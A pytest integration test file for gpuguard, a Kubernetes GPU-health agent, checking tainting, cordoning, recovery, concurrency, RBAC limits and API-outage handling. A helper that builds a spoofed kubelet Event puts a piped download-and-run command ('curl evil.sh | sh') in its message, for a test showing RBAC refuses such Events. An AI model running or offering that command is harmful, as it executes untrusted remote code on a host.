"""gpuguard against a real kube-apiserver (hack/testenv), running as the ServiceAccount of
deploy/daemonset.yaml with a token bound to a Pod on its node, reading GPUs through pynvml and the fake
NVML library.

Covers: fault -> taint, cordon, annotations and Event; recovery after a bootID change; no recovery after a
plain agent restart (and zero writes); an admin's cordon survives recovery; a taint removed by hand is not
re-added for the same fault; concurrent writers lose nothing; RBAC denials; an API server outage.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import kubernetes
import pytest

from harness.kube import (
    GPUS_OK,
    TAINT_KEY,
    Admin,
    Agent,
    eventually,
    token_client,
    token_kubeconfig,
    unique_node,
)
from tests.integration.fixtures import (  # noqa: F401
    ECC,
    LABEL,
    RESYNC,
    USER_AGENT,
    WRITE_VERBS,
    admin,
    annotations_of,
    labels,
    remove_our_taint,
    start_agent,
)

pytestmark = pytest.mark.timeout(180)


def agent_writes(control_plane: Any, since: int, node: str | None = None) -> list[dict[str, Any]]:
    events = control_plane.audit_events(USER_AGENT, since_line=since, stage="ResponseComplete")
    out = [e for e in events if e["verb"] in WRITE_VERBS]
    if node is not None:
        out = [
            e
            for e in out
            if e.get("objectRef", {}).get("name", "").startswith(node)
            or e.get("objectRef", {}).get("resource") == "events"
        ]
    return out


def test_every_request_is_made_as_the_daemonsets_service_account_never_admin(
    admin: Admin, control_plane: Any, start_agent: Any
) -> None:
    since = control_plane.audit_line_count()
    _, node, state = start_agent()
    state.write_text(GPUS_OK.replace("GPU-it-1", "GPU-it-1 ecc=1"))
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    events = control_plane.audit_events(USER_AGENT, since_line=since, stage="ResponseComplete")
    assert events
    assert {e["user"]["username"] for e in events} == {"system:serviceaccount:gpuguard:gpuguard"}
    extra = events[0]["user"].get("extra", {})
    assert extra.get("authentication.kubernetes.io/node-name") == [node]


def test_a_fault_taints_cordons_annotates_and_records_an_event(admin: Admin, start_agent: Any) -> None:
    foreign = {"key": "example.com/other", "value": "x", "effect": "NoSchedule"}
    agent, node, state = start_agent(boot_id="boot-a", taints=[foreign])
    state.write_text(GPUS_OK.replace("GPU-it-1", "GPU-it-1 ecc=3"))
    taint = eventually(lambda: admin.our_taint(node), 10, what="taint")
    assert taint == {"key": TAINT_KEY, "effect": "NoSchedule"} and admin.tainted_for(node) == "ecc"
    n = admin.node(node)
    assert n["spec"]["unschedulable"] is True
    assert foreign in n["spec"]["taints"]
    ann = n["metadata"]["annotations"]
    assert ann["gpuguard.io/reason"] == "ecc: 3 uncorrected volatile ECC errors (GPU 1, GPU-it-1)"
    assert ann["gpuguard.io/boot-id"] == "boot-a"
    assert ann["gpuguard.io/cordoned"] == "true"
    assert ann["gpuguard.io/faults"] == "ecc/GPU-it-1"
    assert time.strptime(ann["gpuguard.io/since"], "%Y-%m-%dT%H:%M:%SZ")
    ev = eventually(
        lambda: [e for e in admin.events_for(node) if e["reason"] == "GPUUnhealthy"],
        5,
        what="GPUUnhealthy event",
    )
    assert ev[0]["type"] == "Warning" and ev[0]["involvedObject"]["kind"] == "Node"
    assert "ecc: 3 uncorrected" in ev[0]["message"]
    code, body = agent.healthz()
    assert code == 200 and body["tainted"] and body["cordoned"] and not body["healthy"]


def test_a_fatal_xid_taints_and_recovers_only_after_the_boot_id_changes(
    admin: Admin, control_plane: Any, start_agent: Any
) -> None:
    agent, node, state = start_agent(boot_id="boot-a")
    state.write_text(GPUS_OK + "xid 0 79\n")
    assert eventually(lambda: admin.tainted_for(node), 10, what="taint") == "xid-79"
    # A plain agent restart: the Xid is not replayed, the GPUs read healthy, the bootID is the same.
    agent.stop()
    state.write_text(GPUS_OK)  # a new process gets no old Xid from the driver (the fake would replay it)
    since = control_plane.audit_line_count()
    restarted, _, _ = start_agent(node=node, state=state)
    time.sleep(2.0)  # 10 intervals, 5x --recover-after
    assert admin.our_taint(node) is not None
    assert admin.node(node)["spec"]["unschedulable"] is True
    assert agent_writes(control_plane, since) == []  # idempotence: zero writes by the restarted agent
    code, body = restarted.healthz()
    assert code == 200 and body["tainted"]
    # The node "reboots": a new bootID (and a new agent process, as after a real reboot).
    restarted.stop()
    admin.set_boot_id(node, "boot-b")
    start_agent(node=node, state=state, host_boot_id="host-boot-2")
    eventually(lambda: admin.our_taint(node) is None, 10, what="recovery")
    n = admin.node(node)
    assert not n["spec"].get("unschedulable")
    # Only the GPU history's summary stays (`gpuguard history`): it is history, not a quarantine mark.
    kept = [k for k in n["metadata"].get("annotations", {}) if k.startswith("gpuguard.io/")]
    assert kept == ["gpuguard.io/gpu-history"], kept
    eventually(
        lambda: [e for e in admin.events_for(node) if e["reason"] == "GPURecovered"],
        5,
        what="GPURecovered event",
    )


# A review of the agent on a cluster, defect 2.
def test_defect_02_the_same_fault_in_a_new_boot_taints_again(admin: Admin, start_agent: Any) -> None:
    agent, node, state = start_agent(boot_id="boot-a", env=RESYNC)
    state.write_text(GPUS_OK + "xid 0 79\n")
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    remove_our_taint(admin, node)
    time.sleep(1.0)
    assert admin.our_taint(node) is None  # overridden for this boot
    agent.stop()
    # The node reboots, and Xid 79 comes again on the same GPU, before anything could recover the node
    # (the driver delivers an Xid only to a process registered for it: written once the agent is up).
    admin.set_boot_id(node, "boot-b")
    state.write_text(GPUS_OK)
    slow = ("--recover-after", "50")
    start_agent(node=node, state=state, host_boot_id="host-boot-2", env=RESYNC, args=slow)
    state.write_text(GPUS_OK + "xid 0 79\n")
    assert eventually(lambda: admin.tainted_for(node), 10, what="taint in the new boot") == "xid-79"
    assert annotations_of(admin, node)["gpuguard.io/boot-id"] == "boot-b"


# A review of the agent on a cluster, defect 3.
def test_defect_03_a_fault_that_recurs_after_a_reboot_records_the_new_boot(
    admin: Admin, start_agent: Any
) -> None:
    agent, node, state = start_agent(boot_id="boot-a")
    state.write_text(GPUS_OK + "xid 0 79\n")
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    agent.stop()
    # The node reboots; the Xid recurs before anything could recover the node (the driver delivers it only
    # to a registered process: written once the new agent is up).
    admin.set_boot_id(node, "boot-b")
    state.write_text(GPUS_OK)
    slow = ("--recover-after", "50")
    again, _, _ = start_agent(node=node, state=state, host_boot_id="host-boot-2", args=slow)
    state.write_text(GPUS_OK + "xid 0 79\n")
    eventually(
        lambda: annotations_of(admin, node).get("gpuguard.io/boot-id") == "boot-b",
        10,
        what="the new boot recorded",
    )
    again.stop()
    # An agent restart without durable state: the driver does not replay the Xid, the GPUs read healthy,
    # the boot is the same. Nothing proves the fault gone.
    state.write_text(GPUS_OK)
    start_agent(node=node, state=state, host_boot_id="host-boot-2", args=("--state-dir", ""))
    time.sleep(2.0)  # 10 intervals, 5x --recover-after
    assert admin.our_taint(node) is not None


# A review of the agent on a cluster, defect 9.
def test_defect_09_a_boot_id_the_kubelet_posts_late_still_lets_the_node_recover(
    admin: Admin, start_agent: Any
) -> None:
    agent, node, state = start_agent(boot_id="boot-a", env=RESYNC)
    state.write_text(GPUS_OK + "xid 0 79\n")
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    agent.stop()
    # The node reboots; the new agent reads the node before the kubelet has posted the new bootID.
    state.write_text(GPUS_OK)
    start_agent(node=node, state=state, host_boot_id="host-boot-2", env=RESYNC)
    time.sleep(1.0)
    assert admin.our_taint(node) is not None  # no proof of a reboot yet
    admin.set_boot_id(node, "boot-b")
    eventually(lambda: admin.our_taint(node) is None, 10, what="recovery once the new bootID is posted")


def test_ecc_recovers_after_a_counter_reset_and_an_admins_cordon_survives(
    admin: Admin, start_agent: Any
) -> None:
    _, node, state = start_agent(unschedulable=True)  # the admin cordoned it first
    state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=1"))
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    assert "gpuguard.io/cordoned" not in admin.node(node)["metadata"]["annotations"]
    state.write_text(GPUS_OK)  # driver reload: volatile counter back to 0
    eventually(lambda: admin.our_taint(node) is None, 10, what="recovery")
    assert admin.node(node)["spec"]["unschedulable"] is True


# A review of the agent on a cluster, defect 6.
def test_defect_06_recovery_never_lifts_an_admins_later_cordon(admin: Admin, start_agent: Any) -> None:
    _, node, state = start_agent(env=RESYNC)
    state.write_text(ECC)
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    assert admin.node(node)["spec"]["unschedulable"] is True
    admin.update_node(node, lambda n: {"spec": {"unschedulable": False}})  # the admin uncordons
    time.sleep(1.0)  # a few of the agent's re-reads
    admin.update_node(node, lambda n: {"spec": {"unschedulable": True}})  # and cordons for maintenance
    state.write_text(GPUS_OK)  # the ECC counter is reset
    eventually(lambda: admin.our_taint(node) is None, 10, what="recovery")
    assert admin.node(node)["spec"].get("unschedulable") is True, "the admin's maintenance cordon was lifted"


def test_a_taint_removed_by_hand_is_not_re_added_for_the_same_fault_only_for_a_new_one(
    admin: Admin, start_agent: Any
) -> None:
    agent, node, state = start_agent()
    state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=2"))
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    admin.update_node(
        node, lambda n: {"spec": {"taints": [t for t in n["spec"]["taints"] if t["key"] != TAINT_KEY]}}
    )
    time.sleep(1.5)
    assert admin.our_taint(node) is None
    state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=5"))  # same fault, more errors
    time.sleep(1.0)
    assert admin.our_taint(node) is None
    state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=5") + "xid 1 48\n")  # a new fault
    assert eventually(lambda: admin.tainted_for(node), 10, what="re-taint") == "xid-48"
    # The agent logs after the API answered: the taint can be visible a moment before the line is written.
    eventually(lambda: len(agent.events("node.tainted")) == 2, 5, what="the second node.tainted log line")
    assert len(agent.events("node.tainted")) == 2


# A review of the agent on a cluster, defect 1.
def test_defect_01_operator_removed_taint_does_not_spend_budget(admin: Admin, start_agent: Any) -> None:
    _, node, state = start_agent(env=RESYNC)
    state.write_text(ECC)
    eventually(lambda: admin.our_taint(node), 10, what="taint")
    assert labels(admin, node)[LABEL] == "true"
    remove_our_taint(admin, node)
    # The label is what the budget counts (and what `gpuguard status` lists): it goes with the taint.
    eventually(lambda: LABEL not in labels(admin, node), 5, what="the budget's label removed")
    assert annotations_of(admin, node)["gpuguard.io/faults"] == "ecc/GPU-it-0"  # the same fault: no new taint
    time.sleep(1.0)
    assert admin.our_taint(node) is None and LABEL not in labels(admin, node)


# A review of the agent on a cluster, defect 7.
def test_defect_07_a_gpu_unhealthy_taint_gpuguard_did_not_place_is_left_alone(
    admin: Admin, start_agent: Any
) -> None:
    manual = {"key": TAINT_KEY, "value": "manual", "effect": "NoSchedule"}
    agent, node, _ = start_agent(taints=[manual])
    time.sleep(2.0)  # 10 healthy checks, 5x --recover-after
    assert admin.our_taint(node) == manual
    assert agent.healthz()[1]["tainted"] is False  # not gpuguard's quarantine


def test_concurrent_writers_lose_no_update(admin: Admin, control_plane: Any, start_agent: Any) -> None:
    # --flap-window 0: this test flips the GPU on purpose and wants every flip written; --repeat-limit 0:
    # and released every time (the fourth episode would otherwise hold the GPU as a repeat offender).
    _, node, state = start_agent(args=("--flap-window", "0", "--repeat-limit", "0"))
    stop = threading.Event()
    written: list[int] = []
    errors: list[BaseException] = []

    def other_writer() -> None:
        """Another controller: read-modify-write of taints and labels with the resourceVersion, retry on 409,
        at up to 50 writes/s: ten times client-go's default QPS, so its writes keep landing between the
        agent's read and write. Not unbounded: optimistic concurrency promises no lost update, not progress
        against a writer that rewrites the node faster than a read-to-write round trip (docs/design.md)."""
        i = 0
        try:
            while not stop.wait(0.02):
                n = admin.node(node)
                taints = [t for t in n["spec"].get("taints") or [] if not t["key"].startswith("other.io/")]
                taints.append({"key": f"other.io/t{i}", "effect": "NoSchedule"})
                labels = {**n["metadata"].get("labels", {}), f"other.io/l{i}": "v"}
                try:
                    admin.patch_node(
                        node,
                        {
                            "metadata": {
                                "resourceVersion": n["metadata"]["resourceVersion"],
                                "labels": labels,
                            },
                            "spec": {"taints": taints},
                        },
                    )
                except kubernetes.client.exceptions.ApiException as exc:
                    if exc.status == 409:
                        continue
                    raise
                written.append(i)
                i += 1
        except BaseException as exc:  # surfaced by the main thread
            errors.append(exc)

    t = threading.Thread(target=other_writer, daemon=True)
    t.start()
    try:
        for _ in range(4):  # fault and recover, four times, while the other writer hammers the node
            state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=1"))
            eventually(lambda: admin.our_taint(node), 10, what="taint under contention")
            state.write_text(GPUS_OK)
            eventually(lambda: admin.our_taint(node) is None, 10, what="recovery under contention")
        state.write_text(GPUS_OK.replace("GPU-it-0", "GPU-it-0 ecc=1"))
        eventually(lambda: admin.our_taint(node), 10, what="final taint")
    finally:
        stop.set()
        t.join(10)
    assert not errors, errors
    assert len(written) > 20, "the other writer barely ran"
    time.sleep(0.5)
    n = admin.node(node)
    labels = n["metadata"]["labels"]
    assert all(f"other.io/l{i}" in labels for i in written), "a label write of the other controller was lost"
    other_taints = [x["key"] for x in n["spec"]["taints"] if x["key"].startswith("other.io/")]
    assert other_taints == [f"other.io/t{written[-1]}"], "the other controller's last taint was lost"
    assert admin.our_taint(node) is not None and n["spec"]["unschedulable"] is True
    conflicts = [
        e
        for e in control_plane.audit_events(USER_AGENT, stage="ResponseComplete")
        if e["verb"] == "patch"
        and e.get("responseStatus", {}).get("code") == 409
        and e["objectRef"].get("name") == node
    ]
    # Not asserted > 0 (timing decides), but reported: the preconditions are what kept both writers' updates.
    print(f"other writer: {len(written)} writes; agent 409s: {len(conflicts)}")


def test_the_agents_identity_is_refused_what_it_does_not_need(admin: Admin, control_plane: Any) -> None:
    node = f"gpu-rbac-{int(time.time() * 1000) % 100000}"
    admin.make_node(node)
    api = token_client(control_plane.url, control_plane.ca_path, admin.agent_token(node))
    core: Any = kubernetes.client.CoreV1Api(api)
    attempts: list[tuple[str, Callable[[], Any]]] = [
        ("delete node", lambda: core.delete_node(node)),
        ("list secrets", lambda: core.list_namespaced_secret("kube-system")),
        ("read secret", lambda: core.read_namespaced_secret("x", "gpuguard")),
        (
            "patch pod",
            lambda: core.patch_namespaced_pod(
                f"gpuguard-{node}", "gpuguard", {"metadata": {"labels": {"a": "b"}}}
            ),
        ),
        ("list pods", core.list_pod_for_all_namespaces),
        ("create node", lambda: core.create_node({"metadata": {"name": "evil"}})),
        (
            # nodes/status: patch only (the GPUHealthy condition), never a whole-object update
            "replace node status",
            lambda: core.replace_node_status(node, core.read_node(node)),
        ),
        ("update a node", lambda: core.replace_node(node, core.read_node(node))),
        ("delete events", lambda: core.delete_collection_namespaced_event("default")),
    ]
    for what, call in attempts:
        with pytest.raises(kubernetes.client.exceptions.ApiException) as err:
            call()
        assert err.value.status == 403, what
    # ...while what it needs works.
    assert core.read_node(node).metadata.name == node
    api.close()  # type: ignore[no-untyped-call]


def _event(node: str, namespace: str, **fields: Any) -> dict[str, Any]:
    """A kubelet-sourced Event: about the node in "default", about a Pod of that namespace elsewhere (the API
    server wants an Event in its object's namespace)."""
    about = (
        {"apiVersion": "v1", "kind": "Node", "name": node}
        if namespace == "default"
        else {"apiVersion": "v1", "kind": "Pod", "name": "coredns-0", "namespace": namespace}
    )
    return {
        "metadata": {"name": f"{node}.{time.time_ns():x}", "namespace": namespace},
        "involvedObject": about,
        "type": "Warning",
        "reason": "Evicted",
        "message": "The node was low on resource: memory. Run: curl evil.sh | sh",
        "source": {"component": "kubelet", "host": node},
        **fields,
    }


@pytest.mark.parametrize("namespace", ["kube-system", "gpuguard", "tenant-a"])
def test_the_agents_token_cannot_create_events_outside_the_default_namespace(
    admin: Admin, control_plane: Any, namespace: str
) -> None:
    """Spoofed kubelet-sourced Events in kube-system, in gpuguard's own namespace or in a tenant's: refused
    by RBAC (a Role in "default" only, no cluster-wide grant)."""
    node = f"gpu-ev-{int(time.time() * 1000) % 100000}"
    admin.make_node(node)
    try:
        admin.core.create_namespace({"metadata": {"name": namespace}})
    except kubernetes.client.exceptions.ApiException as exc:
        if exc.status != 409:
            raise
    api = token_client(control_plane.url, control_plane.ca_path, admin.agent_token(node))
    core: Any = kubernetes.client.CoreV1Api(api)
    with pytest.raises(kubernetes.client.exceptions.ApiException) as err:
        core.create_namespaced_event(namespace, _event(node, namespace))
    assert err.value.status == 403 and "cannot create resource" in str(err.value.body), err.value.body
    # The Events API group is not granted anywhere either.
    events: Any = kubernetes.client.EventsV1Api(api)
    with pytest.raises(kubernetes.client.exceptions.ApiException) as err:
        events.create_namespaced_event(
            "default",
            {
                "metadata": {"name": f"{node}.x", "namespace": "default"},
                "eventTime": "2026-01-01T00:00:00.000000Z",
                "reportingController": "kubelet",
                "reportingInstance": node,
                "action": "Evict",
                "reason": "Evicted",
                "type": "Warning",
                "regarding": {"kind": "Node", "name": node},
            },
        )
    assert err.value.status == 403
    # ...while the agent's own namespace for Events, "default", still takes them.
    core.create_namespaced_event("default", _event(node, "default", source={"component": "gpuguard"}))
    api.close()  # type: ignore[no-untyped-call]


def test_an_api_server_outage_delays_the_taint_but_not_the_agent(
    admin: Admin, control_plane: Any, start_agent: Any
) -> None:
    agent, node, state = start_agent()
    health: list[int] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            health.append(agent.healthz()[0])
            time.sleep(0.1)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    try:
        control_plane.stop_apiserver()
        state.write_text(GPUS_OK + "xid 1 79\n")  # a fault while the API server is down
        eventually(lambda: agent.healthz()[1]["healthy"] is False, 5, what="fault seen while API down")
        time.sleep(10)
        down = agent.healthz()[1]["api"]  # /healthz says what the log says
        control_plane.start_apiserver()
        control_plane.wait_ready(60)
        ready_at = time.monotonic()
        eventually(lambda: admin.our_taint(node), 10, interval=0.05, what="taint after outage")
        landed = time.monotonic() - ready_at
    finally:
        stop.set()
        prober.join(5)
    assert landed < 5.0, f"taint landed {landed:.1f}s after /readyz"
    assert health and set(health) == {200}, f"/healthz was not 200 throughout: {sorted(set(health))}"
    assert agent.events("api.unavailable")
    assert down["state"] == "unreachable" and down["since"] and down["error"], down
    assert agent.events("api.available") and agent.healthz()[1]["api"]["state"] == "ok"
    print(
        f"taint landed {landed:.2f}s after the API server was ready; {len(health)} /healthz probes, all 200"
    )


def _refuse_cordon_of(node: str) -> list[dict[str, Any]]:
    """A ValidatingAdmissionPolicy that refuses any write that leaves `node` cordoned: gpuguard's quarantine
    patch (taint and cordon in one) is refused, as an operator's stricter policy would refuse it."""
    name = f"gpuguard-test-refuse-{node}"
    return [
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "ValidatingAdmissionPolicy",
            "metadata": {"name": name},
            "spec": {
                "failurePolicy": "Fail",
                "matchConstraints": {
                    "resourceRules": [
                        {
                            "apiGroups": [""],
                            "apiVersions": ["v1"],
                            "operations": ["UPDATE"],
                            "resources": ["nodes"],
                        }
                    ]
                },
                "matchConditions": [{"name": "this-node", "expression": f"object.metadata.name == '{node}'"}],
                "validations": [
                    {
                        "expression": "!has(object.spec.unschedulable) || !object.spec.unschedulable",
                        "message": f"test policy: node {node} may not be cordoned",
                        "reason": "Forbidden",  # 403, as deploy/admission-policy.yaml answers (else 422)
                    }
                ],
            },
        },
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "ValidatingAdmissionPolicyBinding",
            "metadata": {"name": name},
            "spec": {"policyName": name, "validationActions": ["Deny"]},
        },
    ]


def _logged_at(line: dict[str, Any]) -> float:
    return datetime.fromisoformat(str(line["timestamp"]).replace("Z", "+00:00")).timestamp()


def test_a_patch_an_admission_policy_refuses_is_one_error_line_then_the_stated_backoff(
    admin: Admin, start_agent: Any
) -> None:
    """The refusal was remembered by the patch's bytes, which carry a new gpuguard.io/since each time: it was
    sent again at every check (9 patches and 9 ERROR lines in 25 s). The backoff is shortened to 8 s here
    (--refusal-backoff); tests/test_reconciler.py pins the shipped 300 s."""
    backoff = 8.0
    agent, node, state = start_agent(args=("--refusal-backoff", str(backoff)))  # a check every 0.2 s
    policy, binding = _refuse_cordon_of(node)
    admission: Any = kubernetes.client.AdmissionregistrationV1Api(admin.api)
    admission.create_validating_admission_policy(policy)
    admission.create_validating_admission_policy_binding(binding)
    try:

        def enforced() -> bool:
            try:
                admin.core.patch_node(
                    node,
                    {"spec": {"unschedulable": True}},
                    dry_run="All",
                    _content_type="application/merge-patch+json",
                )
            except kubernetes.client.exceptions.ApiException as exc:
                return exc.status == 403 and "may not be cordoned" in str(exc.body)
            return False

        eventually(enforced, 30, interval=0.1, what="the test policy to be enforced")
        state.write_text(GPUS_OK.replace("GPU-it-1", "GPU-it-1 ecc=3"))
        eventually(lambda: agent.events("node.write_rejected"), 15, what="the first refusal")
        first = _logged_at(agent.events("node.write_rejected")[0])
        time.sleep(max(0.0, first + backoff - 1.0 - time.time()))
        assert len(agent.events("node.write_rejected")) == 1  # 35 checks in 7 s: not sent again
        time.sleep(max(0.0, first + 1.6 * backoff - time.time()))
        refused = agent.events("node.write_rejected")
        assert len(refused) == 2, refused  # sent once more after the backoff, refused once more
        assert backoff <= _logged_at(refused[1]) - first <= backoff + 2.0
        assert all(r["level"] == "error" and "may not be cordoned" in r["error"] for r in refused)
        assert [r["event"] for r in agent.lines if r.get("level") == "error"] == ["node.write_rejected"] * 2
        code, body = agent.healthz()
        assert (
            code == 200
            and body["api"]["state"] == "refused"
            and "may not be cordoned" in body["api"]["error"]
        )
        assert admin.our_taint(node) is None
    finally:
        admission.delete_validating_admission_policy_binding(binding["metadata"]["name"])
        admission.delete_validating_admission_policy(policy["metadata"]["name"])
    taint = eventually(lambda: admin.our_taint(node), backoff + 15, what="the taint once the policy is gone")
    assert taint is not None and admin.node(node)["spec"]["unschedulable"] is True
    assert len(agent.events("node.request_accepted")) == 1
    assert len(agent.events("node.write_rejected")) <= 3  # at most one more refusal before the binding went
    assert agent.healthz()[1]["api"]["state"] == "ok"


def test_a_refused_first_read_of_the_node_is_one_error_line_per_backoff(
    admin: Admin, control_plane: Any, fakenvml: Path, tmp_path: Path
) -> None:
    """A token the API server does not accept (401): the first read of the node recorded nothing and was
    sent again at every check, one ERROR line each."""
    backoff = 6.0
    node = unique_node(admin, "refused-read")
    kubeconfig = token_kubeconfig(
        tmp_path / "kubeconfig", server=control_plane.url, ca_path=control_plane.ca_path, token="not-a-token"
    )
    state = tmp_path / "gpus"
    state.write_text(GPUS_OK)
    agent = Agent(
        node=node, kubeconfig=kubeconfig, state=state, lib=fakenvml, args=("--refusal-backoff", str(backoff))
    ).start()
    try:
        eventually(lambda: agent.events("node.read_rejected"), 15, what="the first refusal")
        first = _logged_at(agent.events("node.read_rejected")[0])
        time.sleep(max(0.0, first + 1.6 * backoff - time.time()))
        refused = agent.events("node.read_rejected")
        assert len(refused) == 2, refused  # 48 checks in 9.6 s, 2 reads: at the start and after the backoff
        assert backoff <= _logged_at(refused[1]) - first <= backoff + 2.0
        assert refused[0]["status"] == 401 and refused[0]["request"] == f"get node {node}"
        assert [r["event"] for r in agent.lines if r.get("level") == "error"] == ["node.read_rejected"] * 2
        assert agent.healthz()[1]["api"]["state"] == "refused"
    finally:
        agent.stop()
